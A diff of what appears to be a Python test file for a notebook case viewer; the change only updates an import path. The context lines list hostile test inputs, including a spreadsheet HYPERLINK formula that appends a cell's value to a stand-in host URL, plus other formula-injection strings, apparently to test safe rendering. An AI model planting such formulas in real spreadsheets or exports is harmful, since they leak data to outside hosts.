@@ -16,7 +16,7 @@ from answers import Pages
 from histories import HOSTILE, event
 
 import casesnb as cn
-from casesnb.view.explorer_tabs import state_html
+from casesnb.view.explorer.tabs import state_html
 
 TEXTS = (*HOSTILE, '=HYPERLINK("http://x.test?"&A1,"Refund")', "+1 @SUM(A1) -2", "''=1")
 EVENTS = [
